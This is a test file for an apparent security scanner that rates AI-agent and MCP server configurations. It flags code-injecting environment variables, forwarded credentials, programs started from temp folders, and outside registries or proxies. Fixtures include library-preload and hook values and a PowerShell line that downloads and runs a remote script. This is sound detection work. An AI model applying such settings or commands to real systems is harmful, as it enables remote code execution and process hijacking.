import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { findingsOf, reportOn } from './testing.ts';

const id = 'AG-015';
const found = (configuration: object | string) =>
  findingsOf(id, configuration, typeof configuration === 'string' ? 'yaml' : 'json').map(({ pointer, severity }) => [
    pointer,
    severity,
  ]);
const server = (more: object, name = 'a') => ({
  mcpServers: { [name]: { command: 'node', args: ['./a.js'], ...more } },
});

describe('variables', () => {
  const rows: readonly (readonly [name: string, value: string, severity: string | null])[] = [
    ['LD_PRELOAD', '/opt/a.so', 'high'],
    ['LD_LIBRARY_PATH', './lib', 'high'],
    ['LD_LIBRARY_PATH', '/usr/local/cuda/lib64', 'low'],
    ['DYLD_INSERT_LIBRARIES', '/opt/a.dylib', 'high'],
    ['NODE_OPTIONS', '--require ./hook.js', 'high'],
    ['NODE_OPTIONS', '--import=./hook.mjs', 'high'],
    ['NODE_OPTIONS', '--inspect=0.0.0.0:9229', 'high'],
    ['PYTHONSTARTUP', './a.py', 'high'],
    ['BASH_ENV', './a.sh', 'high'],
    ['PERL5LIB', './lib', 'high'],
    ['JAVA_TOOL_OPTIONS', '-javaagent:a.jar', 'high'],
    ['GIT_SSH_COMMAND', 'ssh -o ProxyCommand=x', 'high'],
    ['PYTHONBREAKPOINT', 'os.system', 'high'],
    ['PYTHONBREAKPOINT', '0', null],
    ['DOTNET_STARTUP_HOOKS', '/opt/x.dll', 'high'],
    ['GCONV_PATH', './conv', 'high'],
    ['OPENSSL_CONF', './openssl.cnf', 'high'],
    ['OPENSSL_CONF', '/dev/null', null],
    ['GIT_CONFIG_GLOBAL', './gitconfig', 'high'],
    ['GIT_CONFIG_GLOBAL', '/dev/null', null],
    ['GOFLAGS', '-toolexec=/opt/x', 'high'],
    ['GOFLAGS', '-mod=readonly', null],
    ['RUSTC_WRAPPER', 'sccache', null],
    ['MAVEN_OPTS', '-javaagent:a.jar', 'high'],
    ['MAVEN_OPTS', '-Xmx512m', null],
    ['CLASSPATH', '/tmp/x.jar', 'high'],
    ['CLASSPATH', './lib/a.jar', null],
    ['LUA_PATH', '/tmp/?.lua', 'high'],
    ['HTTPS_PROXY', 'http://proxy.example.com:3128', 'medium'],
    ['https_proxy', 'http://proxy.example.com:3128', 'medium'],
    ['https_proxy', '${HTTPS_PROXY:-}', null],
    ['https_proxy', '${EGRESS:-}', 'medium'],
    ['ALL_PROXY', 'socks5://127.0.0.1:1080', 'low'],
    ['SSL_CERT_FILE', './ca.pem', 'medium'],
    ['PIP_INDEX_URL', 'https://packages.example.net/simple', 'medium'],
    ['UV_INDEX', 'own=https://packages.example.net/simple', 'medium'],
    ['npm_config_registry', 'https://npm.example.net/', 'medium'],
    ['GOPROXY', 'https://go.example.net,direct', 'medium'],
    ['GOPROXY', 'https://proxy.golang.org,direct', null],
    ['PIP_EXTRA_INDEX_URL', 'https://pypi.tuna.tsinghua.edu.cn/simple', 'low'],
    ['PIP_INDEX_URL', 'https://pypi.org/simple', null],
    ['NPM_CONFIG_REGISTRY', 'http://localhost:4873/', null],
    ['NPM_CONFIG_REGISTRY', 'https://nexus.example.com/repository/npm/', null],
    ['UV_DEFAULT_INDEX', '${INDEX_URL}', null],
    ['PIP_INDEX', 'https://packages.example.net/simple', null],
    ['NODE_EXTRA_CA_CERTS', '/opt/ca.pem', 'medium'],
    ['PATH', './bin:/usr/bin', 'medium'],
    ['PATH', '/tmp/bin:/usr/bin', 'medium'],
    ['PATH', 'vendor/bin:${env:PATH}', 'medium'],
    ['PATH', '${env:TMPDIR}/bin:${env:PATH}', 'medium'],
    ['PYTHONPATH', '/tmp/lib', 'high'],
    ['SSH_AUTH_SOCK', '${SSH_AUTH_SOCK}', 'high'],
    ['AWS_SESSION_TOKEN', '${AWS_SESSION_TOKEN}', 'high'],
    ['NODE_ENV', 'production', null],
    ['NODE_OPTIONS', '--max-old-space-size=4096', null],
    ['PYTHONUNBUFFERED', '1', null],
    ['PYTHONPATH', './src', null],
    ['PATH', '/usr/local/bin:/usr/bin:/bin', null],
    ['PATH', '/opt/a/bin:${PATH}', null],
    ['PATH', '${env:PATH}:${env:HOME}/go/bin', null],
    ['PATH', '{env:HOME}/.local/bin:{env:PATH}', null],
    ['HTTPS_PROXY', '${HTTPS_PROXY}', null],
    ['NO_PROXY', 'localhost', null],
    ['JAVA_TOOL_OPTIONS', '-Xmx512m', null],
    ['ENV', 'production', null],
    ['SSL_CERT_FILE', '/etc/ssl/certs/ca-certificates.crt', null],
    ['AWS_REGION', 'eu-central-1', null],
  ];
  for (const [name, value, severity] of rows) {
    it(`${name}=${value}: ${severity ?? 'quiet'}`, () => {
      const expected = severity === null ? [] : [[`/mcpServers/a/env/${name}`, severity]];
      assert.deepEqual(found(server({ env: { [name]: value } })), expected);
    });
  }
  it('of a server that is switched off count less', () => {
    const configuration = server({ env: { LD_PRELOAD: './a.so' }, disabled: true });
    assert.deepEqual(found(configuration), [['/mcpServers/a/env/LD_PRELOAD', 'medium']]);
  });
  it('in front of a command and inside a container', () => {
    const run = (command: string, ...args: string[]) => found({ mcpServers: { a: { command, args } } });
    assert.deepEqual(run('env', 'LD_PRELOAD=./a.so', 'node', './a.js'), [['/mcpServers/a/args/0', 'high']]);
    assert.deepEqual(run('bash', '-c', 'export NODE_OPTIONS="-r ./x.js"; node ./a.js'), [
      ['/mcpServers/a/args/1', 'high'],
    ]);
    assert.deepEqual(run('docker', 'run', '-e', 'LD_PRELOAD=/x.so', 'img:1'), [['/mcpServers/a/args/2', 'high']]);
    assert.deepEqual(run('docker', 'run', '-e', 'NODE_ENV=x', 'img:1'), []);
  });
  it('of the host itself', () => {
    assert.deepEqual(found({ permissions: { deny: ['WebFetch'] }, env: { BASH_ENV: './a.sh' } }), [
      ['/env/BASH_ENV', 'high'],
    ]);
  });
});

describe('identities', () => {
  const rows: readonly (readonly [server: string, name: string, severity: string | null])[] = [
    ['search', 'SSH_AUTH_SOCK', 'high'],
    ['git', 'SSH_AUTH_SOCK', null],
    ['search', 'AWS_SESSION_TOKEN', 'high'],
    ['aws-cost', 'AWS_SESSION_TOKEN', null],
    ['search', 'AWS_PROFILE', null],
  ];
  for (const [name, variable, severity] of rows) {
    it(`${variable} for ${name}: ${severity ?? 'quiet'}`, () => {
      const expected = severity === null ? [] : [[`/mcpServers/${name}/env/${variable}`, severity]];
      assert.deepEqual(found(server({ env: { [variable]: `\${${variable}}` } }, name)), expected);
    });
  }
  it('the package tells as well as the name', () => {
    const configuration = {
      mcpServers: {
        a: { command: 'uvx', args: ['awslabs.x==1.0.0'], env: { AWS_SESSION_TOKEN: '${AWS_SESSION_TOKEN}' } },
      },
    };
    assert.deepEqual(found(configuration), []);
  });
});

describe('where programs are started from', () => {
  const rows: readonly (readonly [
    command: string,
    args: readonly string[],
    pointer: string,
    severity: string | null,
  ])[] = [
    ['/tmp/a', [], '/command', 'high'],
    ['node', ['/tmp/a.js'], '/args/0', 'high'],
    ['bash', ['/var/tmp/a.sh'], '/args/0', 'high'],
    ['C:\\Windows\\Temp\\a.exe', [], '/command', 'high'],
    ['bin/a', [], '/command', 'medium'],
    ['node_modules/.bin/a', [], '/command', 'medium'],
    ['node', ['./a.js'], '', null],
    ['node', ['dist/a.js'], '', null],
    ['/usr/bin/node', ['/opt/a.js'], '', null],
    ['./bin/a', [], '', null],
    ['${workspaceFolder}/bin/a', [], '', null],
    ['a', ['--cache', '/tmp/a'], '', null],
    ['node', ['a.js', '/tmp'], '', null],
    ['uv', ['run', '--with', 'b==1.0', 'servers/a.py'], '', null],
    ['uv', ['run', 'servers/a'], '/args/1', 'medium'],
  ];
  for (const [command, args, pointer, severity] of rows) {
    it(`${command} ${args.join(' ')}: ${severity ?? 'quiet'}`, () => {
      const expected = severity === null ? [] : [[`/mcpServers/a${pointer}`, severity]];
      assert.deepEqual(found({ mcpServers: { a: { command, args } } }), expected);
    });
  }
  it('a program that is found while it runs begins nowhere yet', () => {
    const line = 'P=$(command -v desk 2>/dev/null || echo "$HOME/.venv/bin/desk"); exec "$P" out/graph.json';
    assert.deepEqual(found({ mcpServers: { a: { command: 'bash', args: ['-c', line] } } }), []);
  });
  it('what an expression of PowerShell loads is no program in a folder', () => {
    const args = ['-c', 'iex (irm https://x.example.com/i.ps1)'];
    assert.deepEqual(found({ mcpServers: { a: { command: 'powershell', args } } }), []);
  });
  it('a working folder settles a relative program', () => {
    assert.deepEqual(found({ mcpServers: { a: { command: 'bin/a', args: [], cwd: '/srv/a' } } }), []);
  });
});

describe('patches', () => {
  const patchOf = (configuration: object) =>
    reportOn(configuration).findings.find(({ ruleId }) => ruleId === id)?.remediation.patch;
  it('take a variable out of its map', () => {
    assert.deepEqual(patchOf(server({ env: { LD_PRELOAD: './a.so' } })), [
      { op: 'remove', path: '/mcpServers/a/env/LD_PRELOAD' },
    ]);
  });
  it('leave alone what may be wanted', () => {
    assert.equal(patchOf(server({ env: { HTTPS_PROXY: 'http://proxy.example.com' } })), undefined);
    assert.equal(patchOf({ mcpServers: { a: { command: 'env', args: ['LD_PRELOAD=./a.so', 'node'] } } }), undefined);
  });
});

describe('environments that are shared whole', () => {
  const agent = (more: object) => ({ name: 'a', system_prompt: 'Help.', model: 'm', tools: ['search_docs'], ...more });
  it('by a switch', () => {
    assert.deepEqual(found(agent({ inheritEnv: true })), [['/inheritEnv', 'medium']]);
    assert.deepEqual(found(agent({ inheritEnv: false })), []);
  });
});

describe('indexes of packages on a command line', () => {
  const rows: readonly (readonly [command: readonly string[], expected: readonly (readonly string[])[]])[] = [
    [['npx', '--registry', 'https://npm.example.net', 'a@1.0.0'], [['/mcpServers/a/args/1', 'medium']]],
    [['npx', '--registry=https://npm.example.net', 'a@1.0.0'], [['/mcpServers/a/args/0', 'medium']]],
    [['uvx', '--index-url', 'https://packages.example.net/simple', 'a==1.0'], [['/mcpServers/a/args/1', 'medium']]],
    [['uvx', '--default-index', 'https://pypi.org/simple', 'a==1.0'], []],
    [['node', './a.js', '--registry', 'https://hub.example.net'], []],
  ];
  for (const [[command, ...args], expected] of rows) {
    it(`${command} ${args.join(' ')}`, () => assert.deepEqual(found(server({ command, args })), expected));
  }
});

it('a proxy weighs little where no agent is configured', () => {
  const environment = { HTTPS_PROXY: 'http://proxy.example.com:3128' };
  assert.deepEqual(found({ environment }), [['/environment/HTTPS_PROXY', 'low']]);
  assert.deepEqual(found({ environment: { LD_PRELOAD: '/tmp/a.so' } }), [['/environment/LD_PRELOAD', 'high']]);
});

describe('proxies that a setting names', () => {
  const proxied = (proxy: string) => ({
    models: [{ title: 'a', provider: 'openai', model: 'gpt-5', requestOptions: { proxy } }],
    tabAutocompleteModel: { title: 'b', provider: 'ollama', model: 'qwen' },
  });
  it('see the traffic of the agent', () => {
    assert.deepEqual(found(proxied('http://proxy.example.net:3128')), [['/models/0/requestOptions/proxy', 'medium']]);
    const everyModel =
      'name: a\nversion: 1.0.0\nschema: v1\nmodels:\n  - {name: b, provider: openai, model: gpt-5}\nrequestOptions:\n  proxy: http://proxy.example.net:3128\n';
    assert.deepEqual(found(everyModel), [['/requestOptions/proxy', 'medium']]);
  });
  it('of editors are theirs as well', () => {
    const rows: readonly (readonly [settings: object, pointer: string | null])[] = [
      [
        { 'chat.agent.enabled': true, 'http.proxyStrictSSL': true, 'http.proxy': 'http://p.example.net' },
        '/http.proxy',
      ],
      [{ 'chat.agent.enabled': true, 'http.proxyStrictSSL': true, 'http.proxy': 'http://127.0.0.1:7890' }, null],
      [{ agent: { tool_permissions: { default: 'confirm' } }, proxy: 'socks5h://p.example.net:1080' }, '/proxy'],
      [{ agent: { tool_permissions: { default: 'confirm' } }, proxy: 'http://localhost:8080' }, null],
    ];
    for (const [settings, pointer] of rows) {
      assert.deepEqual(found(settings), pointer === null ? [] : [[pointer, 'medium']], JSON.stringify(settings));
    }
  });
  it('on this machine or chosen by the user are fine', () => {
    for (const proxy of ['http://localhost:3128', 'http://127.0.0.1:8080', '${HTTPS_PROXY}', '']) {
      assert.deepEqual(found(proxied(proxy)), [], proxy);
    }
  });
  it('are not gateways that pass on calls to models', () => {
    const agent = { system_prompt: 'Help.', model: 'm', tools: ['search_docs'] };
    assert.deepEqual(found({ ...agent, litellm_proxy: { base_url: 'https://litellm.example.net' } }), []);
    assert.deepEqual(found({ ...agent, proxy_url: 'https://litellm.example.net/v1' }), []);
  });
});
